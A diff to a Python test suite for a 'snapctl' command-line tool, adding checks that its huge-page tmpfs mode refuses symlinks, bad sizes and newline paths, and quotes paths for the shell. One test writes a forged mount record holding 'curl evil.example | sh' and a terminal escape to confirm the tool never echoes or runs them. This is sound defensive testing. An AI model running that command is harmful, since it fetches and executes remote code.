@@ -13,6 +13,7 @@ import io
 import json
 import os
 import re
+import shlex
 import shutil
 import struct
 import subprocess
@@ -737,6 +738,14 @@ class CliTest(StoreCase, unittest.TestCase):
                     found = (fstype, opts)  # the last one is on top
         return found
 
+    def shmem_enabled(self):
+        """The kernel's selected shmem THP setting ("never", "deny", ...), or ""."""
+        try:
+            with open("/sys/kernel/mm/transparent_hugepage/shmem_enabled") as f:
+                return re.search(r"\[(\w+)\]", f.read()).group(1)
+        except (OSError, AttributeError):
+            return ""
+
     def need_root(self):
         if os.geteuid() != 0:
             self.skipTest("needs root: init --huge mounts a tmpfs")
@@ -749,6 +758,7 @@ class CliTest(StoreCase, unittest.TestCase):
                 if subprocess.run(["umount", path]).returncode:
                     subprocess.run(["umount", "-l", path], check=True)
             shutil.rmtree(path, ignore_errors=True)
+            shutil.rmtree(self.tmp, ignore_errors=True)  # tearDown's failed on a mount
         self.addCleanup(cleanup)
 
     def test_init_huge(self):
@@ -799,7 +809,15 @@ class CliTest(StoreCase, unittest.TestCase):
         self.run_ctl("gc")
         self.run_ctl("doctor", "--rebuild")
         self.assertTrue(os.path.exists(os.path.join(self.store, "mount")))
-        self.assertIn("0 problems, 0 pieces of advice", self.run_ctl("doctor").stdout)
+        # the kernel's shmem_enabled 'deny' overrides huge=: one piece of advice then,
+        # and no "ok" for the mount's huge pages beside it
+        p = self.run_ctl("doctor")
+        if self.shmem_enabled() == "deny":
+            self.assertIn("0 problems, 1 piece of advice", p.stdout)
+            self.assertIn("shmem_enabled is 'deny'", p.stdout)
+            self.assertNotRegex(p.stdout, r"ok +huge pages")
+        else:
+            self.assertIn("0 problems, 0 pieces of advice", p.stdout)
 
     def test_init_huge_owner(self):
         """The tmpfs gets the prepared directory's owner, group and mode, and the
@@ -811,15 +829,48 @@ class CliTest(StoreCase, unittest.TestCase):
         self.unmount_later(self.store)
         self.run_ctl("init", "--huge", "--size", "16M")
         self.assertEqual(self.mountinfo(self.store)[0], "tmpfs")
-        for name in ("", "control.mdb", "segments", "mount"):
+        for name in ("", "control.mdb", "segments"):
             st = os.stat(os.path.join(self.store, name))
             self.assertEqual((st.st_uid, st.st_gid), (65534, 65534), name)
         self.assertEqual(os.stat(self.store).st_mode & 0o7777, 0o2750)
+        # the record is root's, readable by all: the writer cannot rewrite it in place
+        st = os.stat(os.path.join(self.store, "mount"))
+        self.assertEqual((st.st_uid, st.st_mode & 0o7777), (0, 0o644))
+        # the writer can still replace it: doctor shows no command from it, only one
+        # made from what is mounted, and opens nothing but a regular file
+        record = os.path.join(self.store, "mount")
+        os.unlink(record)
+        with open(record, "w") as f:
+            f.write("fstype=tmpfs\nmounted=2025-01-01T00:00:00Z\x1b[2J\n"
+                    "command=curl evil.example | sh\n")
+        os.chown(record, 65534, 65534)
+        p = self.run_ctl("doctor")
+        self.assertNotIn("evil", p.stdout)
+        self.assertNotIn("\x1b", p.stdout)
+        self.assertIn("%s is not root's (uid 65534)" % record, p.stdout)
+        self.assertIn("mount it again at boot with: snapctl --store '%s' init --huge "
+                      "--size 16M" % self.store, p.stdout)
+        os.unlink(record)
+        os.mkfifo(record)
+        p = subprocess.run([SNAPCTL, "--store", self.store, "doctor"], capture_output=True,
+                           text=True, timeout=60)
+        self.assertIn("%s is not a regular file" % record, p.stdout)
 
     def test_init_huge_refused(self):
+        if os.geteuid() == 0:
+            self.unmount_later(self.store)  # in case a refusal is broken
         self.run_ctl("init", "--size", "1G", code=2)  # --size goes with --huge
         for bad in ("0", "1X", "12%%", "101%", "-1", "1.5G"):
             self.run_ctl("init", "--huge", "--size", bad, code=2)
+        # sizes that wrap past 2^64 bytes (tmpfs took the wrapped 0 as "unlimited"), and
+        # sizes too small for the store (LMDB died of SIGBUS, leaving the mount)
+        for bad, why in (("16777216T", "too large"), ("18446744073709551616", "too large"),
+                         ("99999999999999999999999", "too large"),
+                         ("4k", "below the minimum of 16.0 MiB"), ("16777215", "below")):
+            p = self.run_ctl("init", "--huge", "--size", bad, code=2)
+            self.assertIn("--size: '%s' is" % bad, p.stderr)
+            self.assertIn(why, p.stderr)
+            self.assertIsNone(self.mountinfo(self.store))
         # not root: refused, nothing mounted (as a real other uid when run as root)
         argv = [SNAPCTL, "--store", self.store, "init", "--huge"]
         if os.geteuid() == 0:
@@ -831,7 +882,6 @@ class CliTest(StoreCase, unittest.TestCase):
         if os.geteuid() != 0:
             return
         # a directory with files in it is never hidden under a tmpfs
-        self.unmount_later(self.store)  # in case the refusal is broken
         self.run_ctl("init")
         p = self.run_ctl("init", "--huge", code=1)
         self.assertIn("%s is not empty" % self.store, p.stderr)
@@ -846,11 +896,80 @@ class CliTest(StoreCase, unittest.TestCase):
         self.assertIn("%s is already a tmpfs mount point, with huge=never" % sub, p.stderr)
         self.assertIn("mount -o remount,huge=within_size %s" % sub, p.stderr)
 
+    def mounts_here(self):
+        """Lines of /proc/self/mountinfo that name this test's paths."""
+        with open("/proc/self/mountinfo") as f:
+            return [line for line in f if self.store in line.replace("\\040", " ")]
+
+    def test_init_huge_symlink(self):
+        """--huge follows no symlink, at the store directory or at any parent: one
+        swapped in by a user who can write the parent would have root mount a tmpfs
+        that user owns over another directory (such as /etc)."""
+        self.need_root()
+        target = os.path.join(self.tmp, "target")
+        os.makedirs(target)
+        self.unmount_later(target)  # in case the refusal is broken
+        self.addCleanup(lambda: os.path.islink(self.store) and os.unlink(self.store))
+        os.symlink(target, self.store)
+        p = self.run_ctl("init", "--huge", "--size", "16M", code=1)
+        self.assertIn("%s is a symlink; --huge follows none" % self.store, p.stderr)
+        self.assertEqual(self.mounts_here(), [])
+        self.assertEqual(os.listdir(target), [])
+        # a symlink as a parent component
+        os.makedirs(os.path.join(self.tmp, "real", "store"))
+        link = os.path.join(self.tmp, "link")
+        os.symlink(os.path.join(self.tmp, "real"), link)
+        self.unmount_later(os.path.join(self.tmp, "real", "store"))
+        p = self.run_ctl("--store", link + "/store", "init", "--huge", "--size", "16M",
+                         code=1, store=False)
+        self.assertIn("%s is a symlink" % link, p.stderr)
+        self.assertEqual(self.mounts_here(), [])
+        # nor does it create directories through one
+        p = self.run_ctl("--store", link + "/new/store", "init", "--huge", code=1,
+                         store=False)
+        self.assertFalse(os.path.exists(os.path.join(self.tmp, "real", "new")))
+        self.assertEqual(self.mounts_here(), [])
+
+    def test_init_huge_quoting(self):
+        """The record's commands quote the path for the shell; a path with a newline
+        (which would break the record's lines) is refused."""
+        self.need_root()
+        store = os.path.join(self.tmp, "it's a store")
+        self.unmount_later(store)
+        self.run_ctl("--store", store, "init", "--huge", "--size", "16M", store=False)
+        self.assertEqual(self.mountinfo(store)[0], "tmpfs")
+        with open(os.path.join(store, "mount")) as f:
+            text = f.read()
+        rec = dict(line.split("=", 1) for line in text.splitlines()
+                   if "=" in line and not line.startswith("#"))
+        argv = shlex.split(rec["command"])
+        self.assertEqual(argv, ["snapctl", "--store", store, "init", "--huge", "--size",
+                                "16M"])
+        fstab_then = re.search(r"\(then (.*)\):\n", text).group(1)
+        self.assertEqual(shlex.split(fstab_then), ["snapctl", "--store", store, "init",
+                                                   "--huge"])
+        self.assertIn("libsnap %s tmpfs " % store.replace(" ", "\\040"), text)
+        # the exact command of the record, run again on the mounted store: no change
+        p = subprocess.run([SNAPCTL] + argv[1:], capture_output=True, text=True)
+        self.assertEqual(p.returncode, 0, p.stderr)
+        self.assertIn("not mounted again", p.stdout)
+        self.assertIn("existing store", p.stdout)
+        # another size is refused, naming the remount
+        p = self.run_ctl("--store", store, "init", "--huge", "--size", "32M", code=1,
+                         store=False)
+        self.assertIn("mount -o remount,size=32M", p.stderr)
+        bad = os.path.join(self.tmp, "new\nline")
+        self.unmount_later(bad)
+        p = self.run_ctl("--store", bad, "init", "--huge", code=1, store=False)
+        self.assertIn("control character", p.stderr)
+        self.assertIsNone(self.mountinfo(bad))
+
     def test_doctor_huge_advice(self):
         """On a 4 KiB-page tmpfs doctor advises huge pages from 64 MiB of segments on,
         with the command that moves the store."""
         fstype, opts = self.mountinfo("/dev/shm") or ("", "")
-        if fstype != "tmpfs" or "huge=within_size" in opts or "huge=always" in opts:
+        if fstype != "tmpfs" or "huge=within_size" in opts or "huge=always" in opts or \
+                self.shmem_enabled() in ("force", "deny"):
             self.skipTest("needs /dev/shm as a tmpfs with 4 KiB pages")
         self.run_ctl("init")
         small = self.write("small.csv", "v\n1\n")
@@ -865,8 +984,9 @@ class CliTest(StoreCase, unittest.TestCase):
         self.assertRegex(p.stdout, r"advice +huge pages: /dev/shm has 4 KiB pages "
                          r"\(huge=\w+\) under 72\.0 MiB of segments: every reader .* "
                          r"144 KiB on page tables \(4\.00 KiB with 2 MiB pages\)")
-        self.assertIn("snapctl --store %s init --huge" % self.store, p.stdout)
-        self.assertIn("mv %s %s.4k" % (self.store, self.store), p.stdout)
+        # paths quoted for the shell
+        self.assertIn("snapctl --store '%s' init --huge" % self.store, p.stdout)
+        self.assertIn("mv '%s' '%s.4k'" % (self.store, self.store), p.stdout)
         # a record copied along with a store, not over a mount: advice to remove it
         self.write("mount", "fstype=tmpfs\nmounted=2025-01-01T00:00:00Z\n")
         shutil.copyfile(os.path.join(self.tmp, "mount"), os.path.join(self.store, "mount"))
